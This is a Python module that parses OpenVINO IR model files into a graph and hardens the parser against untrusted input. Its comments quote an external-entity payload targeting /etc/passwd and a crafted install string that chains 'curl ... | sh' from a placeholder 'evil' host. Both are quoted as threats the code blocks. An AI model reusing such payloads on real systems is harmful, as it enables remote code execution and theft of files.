"""Read OpenVINO IR (v10 and v11 ``.xml`` + ``.bin``) into a :class:`~opforge.graph.Model`.

IR files come from anywhere (model zoos, users' uploads), so nothing in them is trusted:

* The XML is parsed with expat with DTDs forbidden, so entity expansion (billion laughs) and
  external entities (``SYSTEM "file:///etc/passwd"``) are rejected, never expanded.
* Every ``Const`` layer's ``offset``/``size`` is checked against the weights length with the
  overflow-safe form ``offset <= n and size <= n - offset`` (OpenVINO's older
  ``n < offset + size`` wrapped around), and ``size`` must equal ``prod(shape) * itemsize``,
  computed with Python integers before anything is allocated.
* Sizes are bounded by :mod:`opforge.limits` (file bytes, layer count, rank, dimensions, bytes of a
  constant or static input) before anything of that size is built or read. The limits apply to
  what the file *provides* (Parameter shapes, Const shapes and weights, counts), as the ONNX
  reader does for graph inputs and initializers; the ``<dim>`` of other layers' ports are only
  checked for form, since shape inference re-derives them (a huge *computed* tensor is refused
  by the device that would allocate it, at run time).
* The XML is streamed (:mod:`opforge.ir.xml_stream`): memory grows with the layers kept, not with
  a whole-document tree.
* The graph is checked before nodes are built: duplicate layer ids, edges to missing layers or
  ports, two edges into one input, unconnected inputs, and cycles each get their own error naming
  the file, layer name and id (a duplicate id is never resolved by "last one wins").

The ``.bin`` is memory-mapped read-only; constants are zero-copy views into it wherever their
offset is aligned for their element type.
"""

from __future__ import annotations

import dataclasses
import heapq
import math
import mmap
import os
import re
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any, Union
from xml.parsers import expat

import numpy as np

from opforge.element_type import Type
from opforge.errors import (
    AttributeValidationError,
    ModelFormatError,
    ModelValidationError,
    PluginConflictError,
    ResourceLimitError,
    UnsupportedOpError,
)
from opforge.graph import Model, Node, Output
from opforge.ir.subgraph import read_body_attrs
from opforge.ir.writer import (
    CUSTOM_OPSETS_KEY,
    RT_INFO_KEY,
    TYPE_NAMES_FROM_IR,
    opset_number,
    split_names,
)
from opforge.ir.xml_stream import IrStream, XmlRefused, XmlStructureError
from opforge.limits import Limits, current
from opforge.model_files import open_regular
from opforge.op import Op, OpAttrs
from opforge.opset.constant import Constant, ConstantAttrs
from opforge.untrusted_text import package_name, version

if TYPE_CHECKING:
    from opforge.plugins.manager import PluginSystem

PathLike = Union[str, "os.PathLike[str]"]
BytesLike = Union[bytes, bytearray, memoryview]

# Sizes (file bytes, rank, dimensions, tensor bytes, layer count) are bounded by opforge.limits.
#: The newest standard opset OpenVINO (2026.4) defines; "opset99" in a file is an error, not a
#: silent fallback to an older version.
NEWEST_STANDARD_OPSET = 17
#: The IR versions this reader understands.
SUPPORTED_IR_VERSIONS = (10, 11)

_INT = re.compile(r"[+-]?\d+")
_INTERVAL = re.compile(r"(-?\d*)\.\.(-?\d*)")
_LFS_MAGIC = b"version https://git-lfs"


def read_ir(
    xml: PathLike | BytesLike,
    weights: PathLike | BytesLike | None = None,
    plugins: PluginSystem | None = None,
) -> Model:
    """Read an IR model.

    ``xml`` is the ``.xml`` path or its bytes. ``weights`` is the ``.bin`` path or its bytes; when
    ``xml`` is a path and ``weights`` is None, the ``.bin`` beside it is used if it exists.
    ``plugins`` resolves op types and versions (default: the process-wide plugin system).
    """
    if plugins is None:
        from opforge.plugins import default_plugins

        plugins = default_plugins()
    limits = current()
    if isinstance(xml, (bytes, bytearray, memoryview)):
        data = bytes(xml)
        limits.check_bytes("MAX_MODEL_FILE_BYTES", len(data), "the IR xml bytes")
        label = "<IR xml bytes>"
        default_bin: Path | None = None
        chunks: Iterator[bytes] = iter([data])
    else:
        path = Path(xml)
        label = str(path)
        chunks = _xml_chunks(path, limits)
        default_bin = path.with_suffix(".bin")
    if weights is None:
        w = _Weights(default_bin, explicit=False, xml_label=label)
    elif isinstance(weights, (bytes, bytearray, memoryview)):
        view = memoryview(weights)
        # Constants are views of these bytes: copy a buffer the caller could still change.
        w = _Weights(view if view.readonly else memoryview(view.tobytes()), explicit=True, xml_label=label)
    else:
        w = _Weights(Path(weights), explicit=True, xml_label=label)
    return _Reader(chunks, label, w, plugins, limits).run()


def _xml_chunks(path: Path, limits: Limits) -> Iterator[bytes]:
    """The .xml in 256 KiB chunks: never the whole file in memory (it is parsed as it streams)."""
    fd, st = open_regular(path, "IR file")
    try:
        limits.check_bytes("MAX_MODEL_FILE_BYTES", st.st_size, f"IR file '{path}' (weights belong in the .bin)")
    except BaseException:
        os.close(fd)
        raise
    return _read_chunks(fd, path, limits.get("MAX_MODEL_FILE_BYTES"))


def _read_chunks(fd: int, path: Path, limit: int) -> Iterator[bytes]:
    total = 0
    try:
        while True:
            try:
                chunk = os.read(fd, 1 << 18)
            except OSError as err:
                raise ModelFormatError(f"IR file '{path}' cannot be read: {err.strerror or err}") from None
            if not chunk:
                return
            total += len(chunk)
            if total > limit:
                raise ResourceLimitError(f"IR file '{path}' grew past the limit MAX_MODEL_FILE_BYTES={limit} while being read")
            yield chunk
    finally:
        os.close(fd)


# ============================================================================ weights
class _Weights:
    """The ``.bin``, opened (and memory-mapped) only when a constant first needs it."""

    def __init__(self, source: Path | memoryview | None, *, explicit: bool, xml_label: str) -> None:
        self.source = source
        self.explicit = explicit
        self.xml_label = xml_label
        self._buf: memoryview | mmap.mmap | None = None
        self._size = 0
        if isinstance(source, Path) and explicit and not source.exists():
            raise ModelFormatError(f"weights file '{source}' (given for '{xml_label}') does not exist")

    @property
    def label(self) -> str:
        if isinstance(self.source, Path):
            return f"weights file '{self.source}'"
        return "the weights bytes"

    def open(self, where: str, offset: int, size: int) -> tuple[memoryview | mmap.mmap, int]:
        if self._buf is not None:
            return self._buf, self._size
        src = self.source
        if src is None or (isinstance(src, Path) and not src.exists()):
            expected = (f"expected '{src}' next to it (pass weights= to read it from elsewhere)"
                        if isinstance(src, Path) else "the xml was given as bytes without weights=")
            raise ModelFormatError(
                f"{where}: needs {size} bytes of weights at offset {offset}, but there is no weights "
                f"file for '{self.xml_label}': {expected}"
            )
        if isinstance(src, memoryview):
            flat = src if src.ndim == 1 and src.format == "B" else src.cast("B")
            self._buf, self._size = flat, flat.nbytes
            return flat, flat.nbytes
        # A FIFO or device could block the open or the read forever, or be read past its end:
        # only plain files are mapped. Checked before opening (opening a FIFO blocks), and
        # again on the open descriptor in case the path was swapped in between.
        fd, st = open_regular(src, "weights file")
        try:
            current().check_bytes("MAX_WEIGHTS_BYTES", st.st_size, f"weights file '{src}'")
            self._size = st.st_size
            if st.st_size == 0:
                self._buf = memoryview(b"")  # mmap refuses empty files
            else:
                # Read-only: constants become views that nothing can write through. The mapping
                # stays alive as long as any constant refers to it.
                try:
                    self._buf = mmap.mmap(fd, 0, access=mmap.ACCESS_READ)
                except (OSError, ValueError, OverflowError) as err:
                    # ENOMEM under an address-space limit, or a file too large to map at all.
                    raise ResourceLimitError(
                        f"{where}: cannot map weights file '{src}' ({st.st_size} bytes) into memory: "
                        f"{getattr(err, 'strerror', None) or err}"
                    ) from None
                self._size = len(self._buf)
        finally:
            os.close(fd)
        return self._buf, self._size

    def lfs_hint(self) -> str:
        """A hint when the .bin is a Git LFS pointer file instead of the weights."""
        if self._buf is None or self._size > 1024:
            return ""
        head = bytes(self._buf[: len(_LFS_MAGIC)])
        if head == _LFS_MAGIC:
            return " The weights file is a Git LFS pointer, not the weights: run `git lfs pull` in its repository."
        return ""


# ============================================================================ parsed layers
@dataclasses.dataclass
class _Layer:
    id: int
    name: str
    ir_type: str  # as written in the file ("Const", "ReLU")
    type: str  # opforge's op type name ("Constant", "Relu")
    version: str
    pos: int  # position in the document: parameter and result order
    attrs: dict[str, str]  # the <layer> element's own attributes
    data: dict[str, str]
    inputs: list[int]  # input port ids, in document order
    outputs: list[int]  # output port ids, in document order
    output_names: list[list[str]]
    rt_info: dict[str, Any]
    #: a body-carrying layer (Loop): its <body>, <port_map> and <back_edges> (ir.subgraph)
    body: ET.Element | None = None
    port_map: ET.Element | None = None
    back_edges: ET.Element | None = None

    @property
    def where(self) -> str:
        return f"layer '{self.name}' (id {self.id}, {self.ir_type})"


class _Reader:
    def __init__(self, chunks: Iterator[bytes], label: str, weights: _Weights, plugins: PluginSystem,
                 limits: Limits) -> None:
        self.chunks = chunks
        self.label = label
        self.weights = weights
        self.plugins = plugins
        self.limits = limits
        # Read once: checked per dimension of every Parameter and Const shape.
        self.max_dim = limits.get("MAX_DIMENSION")
        self.ir_version = 11
        self.model_rt: dict[str, Any] = {}
        self.net_name = "model"
        self.layers: dict[int, _Layer] = {}
        #: how many bodies (Loop) enclose the net this reader reads
        self.depth = 0
        self.edge_list: list[tuple[int, int, int, int]] = []

    def fail(self, message: str) -> ModelFormatError:
        return ModelFormatError(f"{self.label}: {message}")

    # --- parsing -----------------------------------------------------------------------------
    def run(self) -> Model:
        self._parse_xml()
        if not self.stream_seen_layers:
            raise self.fail("the <net> has no <layers> element")
        edges = self._parse_edges(self.layers)
        order = self._toposort(self.layers, edges)
        return self._build(self.net_name, self.layers, edges, order)

    def _on_net(self, tag: str, attrs: dict[str, str]) -> None:
        if tag != "net":
            raise self.fail(f"not an OpenVINO IR: the root element is <{tag}>, expected <net>")
        version_text = attrs.get("version", "")
        if not _INT.fullmatch(version_text) or int(version_text) not in SUPPORTED_IR_VERSIONS:
            raise self.fail(
                f"IR version {version_text or '(missing)'!r} is not supported; opforge reads IR v10 and "
                "v11. Re-convert the model with a current OpenVINO (`ovc`) or save it with "
                "openvino.save_model."
            )
        self.ir_version = int(version_text)
        self.net_name = attrs.get("name", "model")

    def _on_edge(self, attrs: dict[str, str]) -> None:
        where = f"edge #{len(self.edge_list)}"
        self.edge_list.append((self._int(attrs, "edge", "from-layer", where),
                               self._int(attrs, "edge", "from-port", where),
                               self._int(attrs, "edge", "to-layer", where),
                               self._int(attrs, "edge", "to-port", where)))
        self.limits.check("MAX_NODES", len(self.edge_list), f"{self.label}: edge count")

    def _parse_xml(self) -> None:
        stream = IrStream(self._on_net, self._add_layer, self._on_edge)
        first = True

        def checked() -> Iterator[bytes]:
            nonlocal first
            for chunk in self.chunks:
                if first and chunk[: len(_LFS_MAGIC)] == _LFS_MAGIC:
                    raise self.fail("is a Git LFS pointer file, not the IR: run `git lfs pull` in its repository")
                first = False
                yield chunk

        try:
            stream.feed(checked())
        except XmlRefused as err:
            raise self.fail(str(err)) from None
        except XmlStructureError as err:
            raise self.fail(str(err)) from None
        except expat.ExpatError as err:
            raise self.fail(f"not well-formed XML: {err}") from None
        finally:
            close = getattr(self.chunks, "close", None)
            if close is not None:
                close()  # the file descriptor of a stream stopped early
        if first:
            raise self.fail("not well-formed XML: the file is empty")
        self.stream_seen_layers = stream.seen_layers
        # <meta_data> and <quantization_info> (written by the old Model Optimizer) describe how
        # the model was converted; they do not change what it computes, so they are not read.
        self.model_rt = _rt_info_from_xml(stream.rt_info) if stream.rt_info is not None else {}

    def _int(self, attrs: Mapping[str, str], tag: str, attr: str, where: str, *, minimum: int = 0) -> int:
        text = attrs.get(attr)
        if text is None:
            raise self.fail(f"{where}: <{tag}> has no '{attr}' attribute")
        t = text.strip()
        if not _INT.fullmatch(t):
            raise self.fail(f"{where}: <{tag}> attribute {attr}={text!r} is not an integer")
        v = int(t)
        if v < minimum:
            raise self.fail(f"{where}: <{tag}> attribute {attr}={v} is negative")
        return v

    def _add_layer(self, el: ET.Element) -> None:
        """One ``<layer>`` subtree, as it streams by: checked and kept as a compact record."""
        layers = self.layers
        pos = len(layers)
        self.limits.check("MAX_NODES", pos + 1, f"{self.label}: layer count")
        lid = self._int(el.attrib, "layer", "id", f"layer #{pos}")
        name = el.get("name") or ""
        ir_type = el.get("type")
        where = f"layer '{name}' (id {lid})"
        if lid in layers:
            other = layers[lid]
            raise self.fail(
                f"two layers have id {lid}: '{other.name}' ({other.ir_type}) and '{name}' "
                f"({ir_type}); layer ids must be unique (refusing to guess which one edges mean)"
            )
        if not ir_type:
            raise self.fail(f"{where}: has no 'type' attribute")
        version = el.get("version")
        if not version:
            raise self.fail(f"{where}: has no 'version' attribute (expected 'opsetN' or a custom "
                            "opset name)")
        data_el = el.find("data")
        data = dict(data_el.attrib) if data_el is not None else {}
        inputs: list[int] = []
        outputs: list[int] = []
        out_names: list[list[str]] = []
        seen_ports: set[int] = set()
        for section, ids in (("input", inputs), ("output", outputs)):
            sec = el.find(section)
            if sec is None:
                continue
            for port in sec.findall("port"):
                pid = self._int(port.attrib, "port", "id", where)
                if pid in seen_ports:
                    raise self.fail(f"{where}: two ports have id {pid}")
                seen_ports.add(pid)
                self._check_port_dims(port, f"{where} port {pid}")
                ids.append(pid)
                if section == "output":
                    out_names.append(split_names(port.get("names", "")))
        layers[lid] = _Layer(
            id=lid, name=name or f"{ir_type}_{lid}", ir_type=ir_type,
            type=TYPE_NAMES_FROM_IR.get(ir_type, ir_type), version=version, pos=pos,
            attrs=dict(el.attrib), data=data, inputs=inputs, outputs=outputs, output_names=out_names,
            rt_info=_node_rt_info(el.find("rt_info")),
            body=el.find("body"), port_map=el.find("port_map"), back_edges=el.find("back_edges"),
        )

    def _check_port_dims(self, port: ET.Element, where: str) -> None:
        """Port dims are informational: nothing reads them, shape inference re-derives every
        port's shape from what the file *provides* (Parameter shapes, Const shapes and weights,
        which are bounded by the limits). So they are checked for form only, not against
        MAX_DIMENSION or MAX_TENSOR_RANK: a derived shape may legitimately exceed those (Tile
        with reps [2**45] has an output dim of 2**46), and a file opforge writes for a model it
        read must read back. Memory for such a tensor is refused when a device sizes it at run
        time (runtime/allocation.py), not here."""
        for d in port.findall("dim"):
            text = (d.text or "").strip()
            if _INTERVAL.fullmatch(text) or text == "?":
                continue
            if not _INT.fullmatch(text):
                raise self.fail(f"{where}: <dim>{text}</dim> is not a dimension")
            # sign and magnitude from the digits: int() of a 5000-digit text is a ValueError
            digits = text.lstrip("+-").lstrip("0") or "0"
            if text.startswith("-") and digits not in ("0", "1"):
                shown = text if len(text) <= 24 else f"{text[:20]}... ({len(digits)} digits)"
                raise self.fail(f"{where}: dimension {shown} is negative (only -1 means dynamic)")

    def _parse_edges(self, layers: dict[int, _Layer]) -> dict[tuple[int, int], tuple[int, int]]:
        """``(to layer, to port) -> (from layer, from port)``, every reference checked."""
        edges: dict[tuple[int, int], tuple[int, int]] = {}
        for k, (fl, fp, tl, tp) in enumerate(self.edge_list):
            desc = f"edge #{k} ({fl}:{fp} -> {tl}:{tp})"
            for lid, role in ((fl, "from-layer"), (tl, "to-layer")):
                if lid not in layers:
                    raise self.fail(f"{desc}: {role} {lid} is not a layer id in this file")
            src, dst = layers[fl], layers[tl]
            if fp not in src.outputs:
                raise self.fail(
                    f"{desc}: {src.where} has no output port {fp} (output ports: "
                    f"{', '.join(map(str, src.outputs)) or 'none'})"
                )
            if tp not in dst.inputs:
                raise self.fail(
                    f"{desc}: {dst.where} has no input port {tp} (input ports: "
                    f"{', '.join(map(str, dst.inputs)) or 'none'})"
                )
            if (tl, tp) in edges:
                a, b = edges[(tl, tp)]
                raise self.fail(
                    f"{desc}: input port {tp} of {dst.where} already has an edge from layer "
                    f"'{layers[a].name}' (id {a}) port {b}; an input takes exactly one edge"
                )
            edges[(tl, tp)] = (fl, fp)
        for layer in layers.values():
            for pid in layer.inputs:
                if (layer.id, pid) not in edges:
                    raise self.fail(f"{layer.where}: input port {pid} has no incoming edge")
        return edges

    def _toposort(self, layers: dict[int, _Layer], edges: dict[tuple[int, int], tuple[int, int]]) -> list[_Layer]:
        """Producers first; ties in document order. Kahn's algorithm: iterative, so a 10^5-layer
        chain cannot hit the recursion limit."""
        pending = {lid: len(layer.inputs) for lid, layer in layers.items()}
        consumers: dict[int, list[int]] = {}
        for (tl, _), (fl, _) in edges.items():
            consumers.setdefault(fl, []).append(tl)
        heap = [(layer.pos, lid) for lid, layer in layers.items() if pending[lid] == 0]
        heapq.heapify(heap)
        order: list[_Layer] = []
        while heap:
            _, lid = heapq.heappop(heap)
            order.append(layers[lid])
            for c in consumers.get(lid, []):
                pending[c] -= 1
                if pending[c] == 0:
                    heapq.heappush(heap, (layers[c].pos, c))
        if len(order) != len(layers):
            raise self.fail(f"the layers form a cycle: {self._find_cycle(layers, edges, pending)}")
        return order

    @staticmethod
    def _find_cycle(layers: dict[int, _Layer], edges: dict[tuple[int, int], tuple[int, int]],
                    pending: dict[int, int]) -> str:
        # Every layer left over has an input from another left-over layer; walking those inputs
        # backwards must revisit a layer, and the loop between the two visits is a cycle.
        left = {lid for lid, n in pending.items() if n > 0}
        start = min(left, key=lambda lid: layers[lid].pos)
        seen: dict[int, int] = {}
        path: list[int] = []
        cur = start
        while cur not in seen:
            seen[cur] = len(path)
            path.append(cur)
            layer = layers[cur]
            cur = next(edges[(cur, p)][0] for p in layer.inputs if edges[(cur, p)][0] in left)
        loop = path[seen[cur]:]
        loop.reverse()  # producers first, reading along the edges
        first = min(range(len(loop)), key=lambda i: layers[loop[i]].pos)
        loop = loop[first:] + loop[:first]  # start at the layer that comes first in the file
        return " -> ".join(f"'{layers[i].name}' (id {i})" for i in [*loop, loop[0]])

    # --- building ------------------------------------------------------------------------------
    def _build(self, name: str, layers: dict[int, _Layer], edges: dict[tuple[int, int], tuple[int, int]],
               order: list[_Layer]) -> Model:
        outputs: dict[tuple[int, int], Output] = {}
        nodes: dict[int, Node] = {}
        for layer in order:
            inputs = [outputs[edges[(layer.id, pid)]] for pid in layer.inputs]
            node = self._node(layer, inputs)
            nodes[layer.id] = node
            if layer.type == "Result":
                self._result_names(layer, node)
                continue
            if len(layer.outputs) != len(node.output_specs):
                raise self.fail(
                    f"{layer.where}: the file declares {len(layer.outputs)} output ports, but "
                    f"{node.type_name}-{node.version} has {len(node.output_specs)} outputs"
                )
            for j, pid in enumerate(layer.outputs):
                out = node.output(j)
                if layer.output_names[j]:
                    out.set_names(layer.output_names[j])
                outputs[(layer.id, pid)] = out
        by_pos = sorted(layers.values(), key=lambda la: la.pos)
        # IR v11 keeps parameters and results in model order as document order (OpenVINO's
        # reader does the same); for v10 that is the best order there is.
        params = [nodes[la.id] for la in by_pos if nodes[la.id].type_name == "Parameter"]
        results = [nodes[la.id] for la in by_pos if nodes[la.id].type_name == "Result"]
        # No Parameter is fine (a model of constants); no Result is not: nothing could be read out.
        if not results:
            raise self.fail("the model has no Result layer, so it has no outputs")
        model = Model(results, params, name=name)
        model.rt_info = self.model_rt
        return model

    def _result_names(self, layer: _Layer, node: Node) -> None:
        text = layer.attrs.get("output_names")
        if text is None:
            return
        names = split_names(text)
        src = node.inputs[0]
        # A model output's names are its producer port's names in opforge; add the Result's
        # names there (IR v11 writes the same names in both places).
        src.add_names(names)

    def _node(self, layer: _Layer, inputs: list[Output]) -> Node:
        ctx = f"{self.label}: layer id {layer.id}"
        try:
            op_cls = self._resolve(layer)
        except UnsupportedOpError:
            folded = self._fold_decompression(layer, inputs)
            if folded is None:
                raise
            return folded
        except PluginConflictError as err:
            raise PluginConflictError(f"{self.label}: {layer.where}: {err}") from None
        attrs: OpAttrs
        if op_cls.type_name == "Constant":
            attrs = self._constant_attrs(layer)  # its errors name the file and layer already
        else:
            if op_cls.type_name == "Parameter":
                self._check_parameter(layer)
            try:
                if layer.body is not None:
                    attrs = op_cls.make_attrs(layer.name, read_body_attrs(self, layer, f"{self.label}: {layer.where}"))
                else:
                    attrs = op_cls.attrs_from_ir(layer.name, self._attr_data(layer))
            except ModelValidationError as err:
                raise type(err)(f"{ctx}: {err}") from None
        try:
            node = Node(op_cls, inputs, attrs, layer.name)
        except ModelValidationError as err:
            # The op's message names the node; add the file and the layer id.
            raise type(err)(f"{ctx}: {err}") from None
        node.rt_info.update(layer.rt_info)
        return node

    @staticmethod
    def _attr_data(layer: _Layer) -> dict[str, str]:
        # Every <data> attribute is handed to the op's attribute model, and one it does not model
        # is an AttributeValidationError. No attribute is ignored as "informational": OpenVINO
        # writes only attributes that change what an op computes, so dropping one would silently
        # run a different op than the file describes.
        return dict(layer.data)

    # --- op resolution ---------------------------------------------------------------------------
    def _resolve(self, layer: _Layer) -> type[Op]:
        ops = self.plugins.ops
        t, v = layer.type, layer.version
        if (t, v) in ops:
            return ops.get(t, v)
        n = opset_number(v)
        where = f"{self.label}: {layer.where}"
        # (type name, version) of everything registered (Registry is not iterable itself).
        registered = [key for key in ops.keys() if isinstance(key, tuple)]  # noqa: SIM118
        if n is not None:
            newest = max([NEWEST_STANDARD_OPSET, *(
                opset_number(str(key[1])) or 0 for key in registered
            )])
            if n > newest:
                raise UnsupportedOpError(
                    f"{where}: version '{v}' is newer than any opset opforge knows (newest: "
                    f"opset{newest}). The file was written by a newer OpenVINO, or is corrupt."
                )
            if not ops.versions(t):
                raise UnsupportedOpError(
                    f"{where}: operation '{t}' of opset '{v}' is not provided by opforge or any "
                    "installed plugin. `opforge plugins` lists the operations that are."
                )
            try:
                return ops.get(t, v)
            except UnsupportedOpError as err:
                raise UnsupportedOpError(f"{where}: {err}") from None
        # A custom opset: only the plugin that defines it can read it.
        providers = sorted({
            str(reg.plugin) for key in registered
            if key[1] == v and (reg := ops.registration(key)) is not None
        })
        if providers:
            have = sorted(str(key[0]) for key in registered if key[1] == v)
            raise UnsupportedOpError(
                f"{where}: opset '{v}' is provided by {', '.join(providers)}, but it has no operation "
                f"'{t}' (it has: {', '.join(have)}). The file may need a newer version of that plugin."
            )
        raise UnsupportedOpError(f"{where}: operation '{t}' of opset '{v}': {self._missing_opset_hint(v)}")

    def _missing_opset_hint(self, opset: str) -> str:
        # Everything below comes from the file: it is shown only when it is a plain package name
        # (PEP 508) or version, so a crafted IR cannot choose the command a user is told to run
        # ("pkg --index-url http://evil/simple; curl ... | sh").
        rec: Any = self.model_rt.get(RT_INFO_KEY)
        rec = rec.get(CUSTOM_OPSETS_KEY) if isinstance(rec, Mapping) else None
        rec = rec.get(opset) if isinstance(rec, Mapping) else None
        dist = package_name(rec.get("distribution")) if isinstance(rec, Mapping) else None
        ver_text = version(rec.get("version")) if isinstance(rec, Mapping) else None
        plugin = package_name(rec.get("plugin")) if isinstance(rec, Mapping) else None
        if dist:
            ver = f" {ver_text}" if ver_text else ""
            named = f" (plugin '{plugin}')" if plugin else ""
            return (f"no installed plugin provides opset '{opset}'. The file was written with it "
                    f"provided by distribution '{dist}'{ver}{named}: `pip install {dist}` and read "
                    "the model again.")
        if plugin:
            return (f"no installed plugin provides opset '{opset}'. The file was written with it "
                    f"provided by plugin '{plugin}' (no installable distribution recorded); "
                    "load that plugin (Core.add_extension) and read the model again.")
        return (f"no installed plugin provides opset '{opset}', and the file does not record which "
                "package did. Install the opforge plugin (or OpenVINO extension port) that defines "
                f"opset '{opset}'.")

    def _fold_decompression(self, layer: _Layer, inputs: list[Output]) -> Node | None:
        """Without a registered ``Convert`` op, a compressed weight (``Const f16 -> Convert f32``,
        as ``compress_to_fp16`` writes) is read as the decompressed f32 constant it stands for."""
        if layer.type != "Convert" or len(inputs) != 1 or inputs[0].node.type_name != "Constant":
            return None
        dest = layer.data.get("destination_type", "")
        try:
            t = Type.parse(dest)
        except ModelValidationError:
            return None
        if t is Type.dynamic:
            return None
        value = inputs[0].node.constant_value()
        if value is None:
            return None
        node = Node(Constant, [], ConstantAttrs(value=value.astype(t.np)), layer.name)
        # The decompression mark describes a Convert; on the folded constant it would be wrong.
        node.rt_info.update({k: v for k, v in layer.rt_info.items() if k != "decompression"})
        return node

    # --- Constant and Parameter ----------------------------------------------------------------
    def _element_type(self, layer: _Layer, text: str | None) -> Type:
        where = f"{self.label}: {layer.where}"
        if text is None:
            raise ModelFormatError(f"{where}: <data> has no 'element_type' attribute")
        t = text.strip()
        if t in Type.__members__:
            return Type[t]
        known = ", ".join(x.ir for x in Type)
        raise ModelFormatError(
            f"{where}: unknown element_type {text!r}; opforge reads: {known}. (OpenVINO's u1/u4/i4/"
            "nf4/f8/string types have no opforge equivalent yet.)"
        )

    def _parse_dims(self, layer: _Layer, text: str, *, static: bool) -> list[int | None] | None:
        """``"1,?,4"`` -> ``[1, None, 4]``; ``"..."`` -> None (dynamic rank). Bounds checked."""
        where = f"{self.label}: {layer.where}"
        t = text.strip().strip("[]").strip()
        if t in ("...", "?..."):
            if static:
                raise ModelFormatError(f"{where}: shape {text!r} has a dynamic rank; a constant's must be static")
            return None
        if not t:
            return []
        parts = t.split(",")
        self.limits.check("MAX_TENSOR_RANK", len(parts), f"{where}: shape rank")
        dims: list[int | None] = []
        for p in parts:
            p = p.strip()
            if p in ("?", "-1") or (_INTERVAL.fullmatch(p) and not static):
                # opforge has no bounded dimensions: an interval "1..10" reads as dynamic.
                if static:
                    raise ModelFormatError(f"{where}: shape {text!r} has a dynamic dimension; a constant's must be static")
                dims.append(None)
                continue
            if not _INT.fullmatch(p):
                raise ModelFormatError(f"{where}: shape {text!r}: {p!r} is not a dimension")
            d = int(p)
            self._check_dim(d, where)
            dims.append(d)
        return dims

    def _check_dim(self, d: int, where: str) -> None:
        if d < -1:
            raise ModelFormatError(f"{where}: dimension {d} is negative (only -1 means dynamic)")
        if d > self.max_dim:
            self.limits.check("MAX_DIMENSION", d, f"{where}: dimension")

    def _check_parameter(self, layer: _Layer) -> None:
        shape = layer.data.get("shape")
        if shape is None:
            raise ModelFormatError(f"{self.label}: {layer.where}: <data> has no 'shape' attribute")
        dims = self._parse_dims(layer, shape, static=False)
        if dims is not None:
            static = [d for d in dims if d is not None]
            t = self._element_type(layer, layer.data.get("element_type"))
            itemsize = 1 if t is Type.dynamic else t.np.itemsize
            # The static part alone: dynamic dimensions are bounded when inputs arrive.
            self.limits.check_bytes("MAX_TENSOR_BYTES", math.prod(static) * itemsize,
                                    f"{self.label}: {layer.where}: input shape {shape!r}")
            # Hand the op a shape it parses: intervals were read as dynamic above.
            layer.data["shape"] = ",".join("?" if d is None else str(d) for d in dims) if dims else ""

    def _constant_attrs(self, layer: _Layer) -> ConstantAttrs:
        where = f"{self.label}: {layer.where}"
        known = {"element_type", "shape", "offset", "size"}
        extra = sorted(set(layer.data) - known)
        if extra:
            raise AttributeValidationError(
                f"{where}: unknown Const attribute(s) {', '.join(extra)}; known: {', '.join(sorted(known))}"
            )
        t = self._element_type(layer, layer.data.get("element_type"))
        if t is Type.dynamic:
            raise ModelFormatError(f"{where}: a constant cannot have element_type 'dynamic'")
        if "shape" not in layer.data:
            raise ModelFormatError(f"{where}: <data> has no 'shape' attribute")
        dims = self._parse_dims(layer, layer.data["shape"], static=True)
        shape = tuple(int(d) for d in dims or [] if d is not None)
        offset = self._int(layer.data, "data", "offset", where)
        size = self._int(layer.data, "data", "size", where)
        count = math.prod(shape)
        itemsize = t.np.itemsize
        if size != count * itemsize:
            raise ModelFormatError(
                f"{where}: size={size} bytes does not match shape {list(shape)} of {t.ir} "
                f"({count} elements x {itemsize} bytes = {count * itemsize} bytes)"
            )
        self.limits.check_bytes("MAX_TENSOR_BYTES", count * itemsize, f"{where}: constant shape {list(shape)}")
        if size == 0:
            value = np.zeros(shape, dtype=t.np)
            value.flags.writeable = False
            return ConstantAttrs(value=value)
        buf, n = self.weights.open(where, offset, size)
        # Overflow-safe (offset + size could wrap in a fixed-width language; keep the form).
        if not (offset <= n and size <= n - offset):
            raise ModelFormatError(
                f"{where}: weights offset={offset}, size={size} exceed {self.weights.label} ({n} bytes)."
                f"{self.weights.lfs_hint()}"
            )
        return ConstantAttrs(value=_view(buf, t, shape, count, offset))


def _view(buf: memoryview | mmap.mmap, t: Type, shape: tuple[int, ...], count: int, offset: int) -> np.ndarray:
    """A read-only array over the weights, zero-copy when the offset is aligned."""
    if t is Type.boolean:
        raw = np.frombuffer(buf, dtype=np.uint8, count=count, offset=offset)
        # OpenVINO stores booleans as bytes; anything but 0/1 is normalised, as a bool view of
        # other byte values is not a valid NumPy bool array.
        arr: np.ndarray = raw.view(np.bool_) if not np.any(raw > 1) else raw != 0
    else:
        dt = t.np.newbyteorder("<") if t.np.itemsize > 1 else t.np
        arr = np.frombuffer(buf, dtype=dt, count=count, offset=offset)
        if sys.byteorder != "little" and t.np.itemsize > 1:
            arr = arr.astype(t.np)  # IR weights are little-endian
    arr = arr.reshape(shape)
    if not arr.flags.aligned:
        arr = arr.copy()
    arr.flags.writeable = False
    return arr


# ============================================================================ rt_info
def _rt_info_from_xml(el: ET.Element) -> dict[str, Any]:
    """Model rt_info: ``<key value="v"/>``, ``<info name="key" value="v"/>``, nested elements."""
    out: dict[str, Any] = {}
    # Iterative, with an explicit stack: nesting depth is under the file's control.
    stack: list[tuple[ET.Element, dict[str, Any]]] = [(el, out)]
    while stack:
        parent, target = stack.pop()
        for child in parent:
            key = child.get("name", "") if child.tag == "info" and "name" in child.attrib else child.tag
            if "value" in child.attrib and len(child) == 0:
                target[key] = child.get("value", "")
            else:
                sub: dict[str, Any] = {}
                target[key] = sub
                stack.append((child, sub))
    return out


def _node_rt_info(el: ET.Element | None) -> dict[str, Any]:
    """Layer rt_info: ``<attribute name="k" version="0" value="v"/>`` -> ``{"k": "v"}`` ("" when
    the attribute has no value, as ``decompression`` does). An attribute written in another form
    (another version, or its data under other XML attributes) keeps all of them as a dict, so
    saving the model again writes it back unchanged.

    Port-level rt_info (``<port><rt_info>``, e.g. a Parameter's ``layout``) is not read: opforge
    ports have nowhere to keep it, and it does not change what the model computes.
    """
    if el is None:
        return {}
    out: dict[str, Any] = {}
    for a in el.findall("attribute"):
        name = a.get("name")
        if not name:
            continue
        rest = {k: v for k, v in a.attrib.items() if k != "name"}
        if rest.get("version", "0") == "0" and set(rest) <= {"version", "value"}:
            out[name] = rest.get("value", "")
        else:
            out[name] = rest
    return out
